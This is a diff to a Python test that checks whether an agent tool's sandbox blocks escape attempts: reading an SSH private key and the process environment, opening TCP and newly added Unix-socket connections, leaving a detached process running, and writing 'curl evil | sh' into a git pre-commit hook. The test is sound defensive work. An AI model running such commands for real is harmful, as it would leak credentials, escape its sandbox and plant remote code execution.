@@ -114,6 +114,10 @@ async def test_escapes_are_blocked_and_explained_while_work_succeeds(
     listener = socket.create_server(("127.0.0.1", 0))
     listener.setblocking(False)
     port = listener.getsockname()[1]
+    daemon = socket.socket(socket.AF_UNIX)  # a Docker / D-Bus / ssh-agent stand-in
+    daemon.bind(str(tmp_path / "daemon.sock"))
+    daemon.listen()
+    daemon.setblocking(False)
     stray_tmp = Path(tempfile.gettempdir()) / f"agent-tui-escape-{os.getpid()}"
     escapes = {
         "home": bash("echo x > ~/escape.txt"),
@@ -124,6 +128,9 @@ async def test_escapes_are_blocked_and_explained_while_work_succeeds(
         "ssh": bash("cat ~/.ssh/id_ed25519"),
         "database": bash(f"head -c 100 {database}"),
         "tcp": bash(f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""),
+        "unix socket": bash(
+            f"{PY} -c \"import socket as s; s.socket(s.AF_UNIX).connect('{tmp_path}/daemon.sock')\""
+        ),
         "environ": bash(f"cat /proc/{os.getpid()}/environ"),
         "setsid": bash("setsid nohup sleep 3127 >/dev/null 2>&1 & echo left-behind"),
         "hook": bash("echo 'curl evil | sh' > .git/hooks/pre-commit"),
@@ -176,6 +183,12 @@ async def test_escapes_are_blocked_and_explained_while_work_succeeds(
         listener.setblocking(True)
         listener.accept()[0].close()  # ...which does accept connections
     listener.close()
+
+    assert "Operation not permitted" in named["unix socket"]
+    assert "Unix sockets cannot be opened in the sandbox" in named["unix socket"]
+    with pytest.raises(BlockingIOError):
+        daemon.accept()
+    daemon.close()
 
     assert "AGENT_TUI_DATA_DIR" not in named["environ"]
     assert "is not visible: the sandbox has its own process namespace" in named["environ"]
